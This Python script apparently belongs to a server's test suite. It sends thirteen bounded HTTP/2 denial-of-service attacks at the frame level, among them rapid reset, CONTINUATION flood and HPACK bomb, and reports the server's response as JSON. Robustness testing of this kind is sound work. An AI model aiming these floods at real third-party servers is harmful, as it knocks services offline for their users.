#!/usr/bin/env python3
"""HTTP/2's own attacks against a server, one per run, at the frame level (h2_raw.py).

Each attack sends what RFC 9113 lets a server refuse, bounded in count and time, and stops as soon
as the server answers it (GOAWAY, or the connection closed). It prints one JSON object of what the
server did: its GOAWAY (error code, last stream id, debug data), the streams it reset and with
which code, the responses it sent, whether and when the connection closed, and how much was sent.
It asserts nothing: the test that runs it does.

Attacks:
  rapid_reset       requests each cancelled at once with RST_STREAM (CVE-2023-44487)
  continuation      one header block continued by CONTINUATION frames without end (the 2024 class)
  hpack_bomb        one small header block that decodes to megabytes (a dynamic-table entry
                    referenced thousands of times)
  oversized_headers one request whose header list is larger than the server's
                    SETTINGS_MAX_HEADER_LIST_SIZE, then a normal request on the same connection
  settings_flood    SETTINGS frames, each asking for an acknowledgement   } on a connection
  ping_flood        PING frames, each asking for an answer                } with a WebSocket
  window_update_flood  WINDOW_UPDATE frames of 1 byte on the connection   } open
  empty_data_flood  empty DATA frames on an open WebSocket stream (extended CONNECT)
  too_many_streams  more WebSocket streams held open than SETTINGS_MAX_CONCURRENT_STREAMS
  idle_stream       a WebSocket stream opened and never written (nor its pings answered;
                    --path a route that pings)
  stalled_headers   a header block started and never finished
  stalled_headers_open  the same after a WebSocket stream opened on the connection (--path)
  zero_window       SETTINGS_INITIAL_WINDOW_SIZE 0, a WebSocket stream asked to echo, and the
                    window never opened

usage: h2_attacks.py ATTACK --port PORT --ca CA.pem [--count N] [--wait SECONDS] [--path P]
"""

import argparse
import json
import sys
import time

from h2_raw import (
    CANCEL,
    INITIAL_WINDOW_SIZE,
    MAX_CONCURRENT_STREAMS,
    MAX_HEADER_LIST_SIZE,
    TEXT,
    Connection,
    ws_frame,
)

BATCH = 100  # frames queued between two pumps of the socket


def flood(conn, count, make, args):
    """Queue `count` frames from `make(i)` in batches, pumping the socket in between, until
    they are all written or the server answered (GOAWAY or close); then wait for its answer."""
    for start in range(0, count, BATCH):
        for i in range(start, min(start + BATCH, count)):
            make(i)
        conn.flush(args.wait)
        conn.step(0)
        if conn.goaway or conn.closed:
            break
    conn.wait_for(lambda: conn.goaway or conn.closed, args.wait)


def open_websocket(conn, sid, path, args):
    """Open a WebSocket on stream `sid`; whether the server answered 200."""
    conn.headers(sid, conn.websocket_headers(path))
    conn.wait_for(lambda: conn.status(sid) is not None or sid in conn.resets, args.wait)
    return conn.status(sid) == 200 and sid not in conn.resets


def rapid_reset(conn, args):
    # GET / with END_STREAM, then RST_STREAM(CANCEL) at once, stream after stream.
    def one(i):
        sid = 2 * i + 1
        conn.headers(sid, conn.request_headers("/"), end_stream=True)
        conn.reset(sid, CANCEL)

    flood(conn, args.count or 10000, one, args)


def continuation(conn, args):
    # HEADERS without END_HEADERS, then CONTINUATION frames, each one more small header field
    # (a literal without indexing, so the HPACK state stays the same).
    conn.headers(1, conn.request_headers("/"), end_headers=False)

    def one(i):
        name = f"x-flood-{i}".encode()
        block = b"\x00" + bytes([len(name)]) + name + b"\x01a"
        conn.continuation(1, block)

    flood(conn, args.count or 100000, one, args)


def hpack_bomb(conn, args):
    # A 4000-byte value inserted into the dynamic table (literal with incremental indexing, new
    # name), then referenced by its index (62, one byte: 0xbe) thousands of times in the same
    # block: about 14 KB on the wire, tens of megabytes decoded.
    value = b"a" * 4000
    entry = b"\x40" + bytes([6]) + b"x-bomb" + b"\x7f" + encode_int(len(value) - 127) + value
    refs = b"\xbe" * (args.count or 12000)
    block = conn.encoder.encode(conn.request_headers("/")) + entry + refs
    send_header_block(conn, 1, block)
    conn.flush(args.wait)
    conn.wait_for(lambda: conn.goaway or conn.closed or conn.status(1) or 1 in conn.resets, args.wait)


def send_header_block(conn, stream_id, block):
    """One request's header block (with END_STREAM) as a HEADERS frame and CONTINUATION frames
    of 16 KiB, the smallest SETTINGS_MAX_FRAME_SIZE every server accepts."""
    from hyperframe.frame import HeadersFrame

    chunks = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    first = HeadersFrame(stream_id, chunks[0])
    first.flags.add("END_STREAM")
    if len(chunks) == 1:
        first.flags.add("END_HEADERS")
    conn.send(first)
    for i, chunk in enumerate(chunks[1:], start=2):
        conn.continuation(stream_id, chunk, end_headers=i == len(chunks))


def encode_int(n):
    """HPACK's integer continuation bytes after a full prefix (RFC 7541 section 5.1)."""
    out = b""
    while n >= 128:
        out += bytes([(n % 128) + 128])
        n //= 128
    return out + bytes([n])


def oversized_headers(conn, args):
    # One header field larger than the limit the server announced (or 64 KiB when it announced
    # none), in CONTINUATION frames; then a normal request on the same connection.
    conn.wait_for(lambda: conn.server_settings, args.wait)
    limit = conn.server_settings.get(MAX_HEADER_LIST_SIZE, 1 << 16)
    big = [("x-big", "b" * (limit + 1024))]
    block = conn.encoder.encode(conn.request_headers("/", extra=big))
    send_header_block(conn, 1, block)
    conn.wait_for(lambda: 1 in conn.ended or 1 in conn.resets or conn.goaway, args.wait)
    conn.headers(3, conn.request_headers("/"), end_stream=True)
    conn.wait_for(lambda: 3 in conn.ended or 3 in conn.resets or conn.goaway, args.wait)


def settings_flood(conn, args):
    # On a connection with a WebSocket open (so no request is pending), each SETTINGS frame
    # asking the server for an acknowledgement.
    if not open_websocket(conn, 1, args.path, args):
        return
    flood(conn, args.count or 100000, lambda i: conn.send(settings_frame()), args)


def settings_frame():
    from hyperframe.frame import SettingsFrame

    return SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: 65535})


def ping_flood(conn, args):
    if not open_websocket(conn, 1, args.path, args):
        return
    flood(conn, args.count or 100000, lambda i: conn.ping(i.to_bytes(8, "big")), args)


def window_update_flood(conn, args):
    # 1 byte at a time: 100000 of them stay far below the 2^31 - 1 limit.
    if not open_websocket(conn, 1, args.path, args):
        return
    flood(conn, args.count or 100000, lambda i: conn.window_update(0, 1), args)


def empty_data_flood(conn, args):
    if not open_websocket(conn, 1, args.path, args):
        return
    flood(conn, args.count or 100000, lambda i: conn.data_frame(1, b""), args)


def too_many_streams(conn, args):
    conn.wait_for(lambda: conn.server_settings, args.wait)
    limit = conn.server_settings.get(MAX_CONCURRENT_STREAMS)
    if limit is None:
        # None announced means unlimited: there is nothing to exceed.
        return
    extra = args.count or 5
    sids = [2 * i + 1 for i in range(limit + extra)]
    for sid in sids:
        conn.headers(sid, conn.websocket_headers(args.path))
    conn.flush(args.wait)
    conn.wait_for(
        lambda: all(conn.status(s) is not None or s in conn.resets for s in sids) or conn.goaway,
        args.wait,
    )
    # The streams it accepted still work: one of them echoes.
    accepted = [s for s in sids if conn.status(s) == 200 and s not in conn.resets]
    if accepted:
        sid = accepted[0]
        conn.data_frame(sid, ws_frame(TEXT, b"still here"))
        conn.wait_for(lambda: b"still here" in conn.data.get(sid, b""), args.wait)


def idle_stream(conn, args):
    # Opened, then silence: the server's pings (inside DATA) are read but never answered.
    if not open_websocket(conn, 1, args.path, args):
        return
    conn.wait_for(lambda: 1 in conn.ended or 1 in conn.resets or conn.goaway, args.wait)


def stalled_headers(conn, args):
    conn.headers(1, conn.request_headers("/"), end_headers=False)
    conn.flush(args.wait)
    conn.wait_for(lambda: conn.goaway or conn.closed, args.wait)


def stalled_headers_open(conn, args):
    # A WebSocket stream first, so the connection is past its first request; then a header
    # block on another stream, never finished (no frame may come until it is, RFC 9113 6.10).
    if not open_websocket(conn, 1, args.path, args):
        return
    conn.headers(3, conn.request_headers("/"), end_headers=False)
    conn.flush(args.wait)
    conn.wait_for(lambda: conn.goaway or conn.closed, args.wait)


def zero_window(conn, args):
    # Our SETTINGS (sent first by Connection) said INITIAL_WINDOW_SIZE 0: the server may send
    # no DATA on any stream until we open its window, which we never do.
    if not open_websocket(conn, 1, args.path, args):
        return
    for i in range(args.count or 16):
        conn.data_frame(1, ws_frame(TEXT, b"x" * 1000 + str(i).encode()))
    conn.flush(args.wait)
    conn.wait_for(lambda: 1 in conn.ended or 1 in conn.resets or conn.goaway or conn.closed, args.wait)


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "hpack_bomb": hpack_bomb,
    "oversized_headers": oversized_headers,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "window_update_flood": window_update_flood,
    "empty_data_flood": empty_data_flood,
    "too_many_streams": too_many_streams,
    "idle_stream": idle_stream,
    "stalled_headers": stalled_headers,
    "stalled_headers_open": stalled_headers_open,
    "zero_window": zero_window,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True, help="PEM certificate(s) to trust")
    parser.add_argument("--server-name", default="localhost")
    parser.add_argument("--path", default="/ws/echo", help="the WebSocket route")
    parser.add_argument("--count", type=int, help="frames or streams to send (a default each)")
    parser.add_argument("--wait", type=float, default=10.0,
                        help="seconds to wait for each answer of the server")
    args = parser.parse_args()
    settings = {INITIAL_WINDOW_SIZE: 0} if args.attack == "zero_window" else {}
    started = time.monotonic()
    conn = Connection(args.host, args.port, args.ca, args.server_name, settings=settings,
                      give_window=args.attack != "zero_window")
    # Be a normal client first: the server's SETTINGS, acknowledged.
    conn.wait_for(lambda: conn.server_settings or conn.settings_acks, args.wait)
    try:
        ATTACKS[args.attack](conn, args)
    finally:
        conn.close()
    report = {
        "attack": args.attack,
        "alpn": conn.alpn,
        "server_settings": {str(k): v for k, v in conn.server_settings.items()},
        "frames_sent": conn.sent_frames,
        "goaway": conn.goaway,
        "resets": {str(k): v for k, v in sorted(conn.resets.items())},
        "statuses": {str(k): conn.status(k) for k in sorted(conn.responses)},
        "ended": sorted(conn.ended),
        "closed": conn.closed,
        "close_error": conn.close_error,
        "pings_received": conn.pings,
        "seconds": round(time.monotonic() - started, 3),
    }
    json.dump(report, sys.stdout)
    print()


if __name__ == "__main__":
    main()
